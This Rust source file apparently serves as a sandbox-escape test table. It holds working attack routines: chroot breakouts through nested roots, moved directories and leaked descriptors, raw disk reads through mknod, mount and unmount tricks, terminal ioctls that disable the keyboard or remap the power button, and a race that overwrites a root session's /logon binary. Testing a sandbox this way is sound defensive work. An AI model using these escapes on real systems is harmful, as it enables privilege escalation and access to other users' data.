//! Attacks on mounts, and on the disk below them.

use core::ffi::CStr;

use linux_raw_sys::general as raw;
use rustix::{
    fs::{CWD, FileType, Mode, OFlags},
    io::{Errno, Result},
};
use shim::sys::Start;

use crate::call::{Table, aside, call, call3, holds, number, open, wait};

pub const ATTACKS: Table = &[
    ("offline_node", |_| {
        majors(|major| {
            let names = [c"/disk252", c"/disk253", c"/disk254"];
            ext4(names[usize::try_from(major - 252).unwrap_or(0)])
        })
    }),
    ("mknod", |_| majors(|major| node(major).and_then(ext4))),
    ("offline_device", |_| open(c"/device", OFlags::RDONLY).map(drop)),
    ("mknod_device", |_| {
        let device = rustix::fs::makedev(10, 183); // hwrng
        rustix::fs::mknodat(CWD, c"/tmp/device", FileType::CharacterDevice, Mode::from_raw_mode(0o600), device)?;
        open(c"/tmp/device", OFlags::RDONLY).map(drop)
    }),
    ("second_mount", second_mount),
    ("mount", |_| mount(c"none", c"/tmp", c"tmpfs", 0)),
    ("remount", |_| mount(c"none", c"/proc", c"none", 0x20 | 0x1000)), // MS_REMOUNT | MS_BIND
    ("unmask", unmask),
    ("unshare", |_| call3(raw::__NR_unshare, raw::CLONE_NEWNS as usize, 0, 0).map(drop)),
    ("chroot", |_| aside(|| call3(raw::__NR_chroot, c"/tmp".as_ptr() as usize, 0, 0).map(drop))),
    ("nested_chroot", |_| aside(nested_chroot)),
    ("moved_out", |_| aside(moved_out)),
    ("leaked_folder", |_| aside(leaked_folder)),
    ("propagation", propagation),
    ("below_the_root", below_the_root),
    ("set_user_id", |_| gained(c"/suid", c"who")),
    ("redirect", |_| open(c"/forged/env", OFlags::PATH).map(drop)),
    ("tioclinux", |_| {
        let mut shift_state = [6_u8]; // TIOCL_GETSHIFTSTATE
        virtual_terminal(0x541c, shift_state.as_mut_ptr() as usize)
    }),
    ("keyboard_off", |_| virtual_terminal(0x4b45, 4)), // KDSKBMODE, K_OFF
    ("graphics_mode", |_| virtual_terminal(0x4b3a, 1)), // KDSETMODE, KD_GRAPHICS
    ("switch_terminal", |_| virtual_terminal(0x5606, 1)), // VT_ACTIVATE; there is one (docs/decisions/0046)
    ("take_power_button", |_| virtual_terminal(0x4b4e, 15)), // KDSIGACCEPT, SIGTERM
    ("remap_power_button", |_| {
        let entry = [0_u8, 116, 0, 2]; // struct kbentry: the table, the key, its value K_HOLE
        virtual_terminal(0x4b47, entry.as_ptr() as usize) // KDSKBENT
    }),
    ("shim_overwrite", shim_overwrite),
];

/// Tries the attack with each major number that virtio disks may have. The kernel allocates them
/// downwards from 254.
fn majors(mut attack: impl FnMut(u32) -> Result<()>) -> Result<()> {
    (252..=254).rev().map(&mut attack).find(Result::is_ok).unwrap_or_else(|| attack(254))
}

/// Makes a node of the second disk in a folder of the attacker.
fn node(major: u32) -> Result<&'static CStr> {
    let path = c"/tmp/raw";
    let _ = rustix::fs::unlink(path);
    let device = rustix::fs::makedev(major, 16);
    rustix::fs::mknodat(CWD, path, FileType::BlockDevice, Mode::from_raw_mode(0o600), device)?;
    Ok(path)
}

/// Succeeds if an ext4 superblock can be read from this path.
fn ext4(path: &CStr) -> Result<()> {
    let mut magic = [0; 2];
    rustix::io::pread(open(path, OFlags::RDONLY)?, &mut magic, 1024 + 56)?;
    if magic == [0x53, 0xef] { Ok(()) } else { Err(Errno::NODATA) }
}

fn mount(from: &CStr, to: &CStr, kind: &CStr, flags: usize) -> Result<()> {
    let [from, to, kind] = [from, to, kind].map(|text| text.as_ptr() as usize);
    call(raw::__NR_mount, [from, to, kind, flags, 0, 0]).map(drop)
}

fn unmount(path: &CStr) -> Result<()> {
    call3(raw::__NR_umount2, path.as_ptr() as usize, 2, 0).map(drop) // MNT_DETACH
}

fn second_mount(_: Start) -> Result<()> {
    let _ = rustix::fs::mkdir(c"/tmp/second", Mode::RWXU);
    majors(|major| {
        mount(node(major)?, c"/tmp/second", c"ext4", 0)?;
        let seen = holds(c"/tmp/second/bo/secret", "bo's");
        let _ = unmount(c"/tmp/second");
        seen
    })
}

/// Opens a work folder of the overlays after the mask above it is unmounted.
fn unmask(_: Start) -> Result<()> {
    unmount(c"/home/.overlay")?;
    open(c"/home/.overlay/bo", OFlags::RDONLY | OFlags::DIRECTORY).map(drop)
}

fn chroot(path: &CStr) -> Result<()> {
    call3(raw::__NR_chroot, path.as_ptr() as usize, 0, 0).map(drop)
}

/// Goes up as far as possible from the working directory, and looks for the homes where PID 1 sees
/// them.
fn climb() -> Result<()> {
    for _ in 0..16 {
        rustix::process::chdir(c"..")?;
    }
    holds(c"tmp/bo/secret", "bo's")
}

/// Changes the root to a folder below. The working directory then is outside of the root, which no
/// longer stops `..`.
fn nested_chroot() -> Result<()> {
    let _ = rustix::fs::mkdir(c"/jail", Mode::RWXU);
    chroot(c"/jail")?;
    climb()
}

/// The same with the working directory inside of the new root. The folder is then moved out of it.
fn moved_out() -> Result<()> {
    for path in [c"/cell", c"/cell/inner"] {
        let _ = rustix::fs::mkdir(path, Mode::RWXU);
    }
    let outside = rustix::fs::open(c"/", OFlags::PATH | OFlags::DIRECTORY, Mode::empty())?;
    chroot(c"/cell")?;
    rustix::process::chdir(c"/inner")?;
    rustix::fs::renameat(&outside, c"cell/inner", &outside, c"moved")?;
    climb()
}

/// Uses a folder that a program outside of the sandbox left open.
fn leaked_folder() -> Result<()> {
    (3..64)
        .map(|fd| call3(raw::__NR_fchdir, fd, 0, 0).and_then(|_| climb()))
        .find(Result::is_ok)
        .unwrap_or(Err(Errno::BADF))
}

/// Mounts a filesystem in bo's home, and waits until bo sees it.
fn propagation(_: Start) -> Result<()> {
    mount(c"none", c"/home/bo/bait", c"tmpfs", 0)?;
    drop(open(c"/home/bo/bait/hook", OFlags::WRONLY | OFlags::CREATE)?);
    let bitten = |_| {
        let _ = rustix::thread::nanosleep(&rustix::thread::Timespec { tv_sec: 1, tv_nsec: 0 });
        open(c"/home/bo/bitten", OFlags::PATH).is_ok()
    };
    let seen = (0..30).any(bitten);
    unmount(c"/home/bo/bait")?;
    if seen { Ok(()) } else { Err(Errno::TIMEDOUT) }
}

/// Reads from the filesystem that the sandbox was made from.
fn below_the_root(_: Start) -> Result<()> {
    holds(c"/tmp/tmp/bo/secret", "bo's")
}

/// Succeeds if a program in the attacker's home gains the privilege that its file got offline. The
/// program answers the question by its exit status.
pub fn gained(program: &CStr, question: &CStr) -> Result<()> {
    match crate::call::fork()? {
        None => {
            let argv = [program.as_ptr() as usize, question.as_ptr() as usize, 0];
            let envp = [0_usize];
            let _ = call3(raw::__NR_execve, argv[0], argv.as_ptr() as usize, envp.as_ptr() as usize);
            shim::sys::exit(2)
        }
        Some(child) => match wait(child)?.exit_status() {
            Some(0) => Ok(()),
            Some(1) => Err(Errno::PERM),
            _ => Err(Errno::NOEXEC),
        },
    }
}

/// Sends a request to a virtual terminal by a node of its own.
fn virtual_terminal(request: usize, argument: usize) -> Result<()> {
    let path = c"/tmp/tty1";
    let device = rustix::fs::makedev(4, 1);
    let _ = rustix::fs::mknodat(CWD, path, FileType::CharacterDevice, Mode::from_raw_mode(0o600), device);
    let terminal = open(path, OFlags::RDWR | OFlags::NONBLOCK)?;
    call3(raw::__NR_ioctl, number(&terminal), request, argument).map(drop)
}

/// Keeps a reference to /logon while it starts a session of root. Opens it for writing once that
/// process has executed another program.
fn shim_overwrite(_: Start) -> Result<()> {
    use shim::{say, say::Text};
    let text = |pid: u32, what: &str| {
        let mut path = Text::new();
        say!(&mut path, "/proc/", pid, what, "\0");
        path
    };
    shim::sys::Stream(1).put("watching\n");
    let deadline = rustix::system::sysinfo().uptime.saturating_add(150);
    let mut last = Errno::NOENT;
    while rustix::system::sysinfo().uptime < deadline {
        for pid in 2..64 {
            let mut link = [0; 16];
            let path = text(pid, "/exe");
            let read = rustix::fs::readlinkat_raw(CWD, crate::call::c(&path), &mut link[..]);
            if read.is_err() || !link.starts_with(b"/logon") {
                continue;
            }
            let Ok(held) = open(crate::call::c(&path), OFlags::PATH) else { continue };
            let mut own = Text::new();
            say!(&mut own, "/proc/self/fd/", number(&held), "\0");
            for _ in 0..2_000_000 {
                match open(crate::call::c(&own), OFlags::WRONLY) {
                    Ok(_) => return Ok(()),
                    Err(Errno::TXTBSY) => {}
                    Err(errno) => {
                        last = errno;
                        break;
                    }
                }
            }
            if last == Errno::ROFS {
                return Err(last);
            }
        }
    }
    Err(last)
}
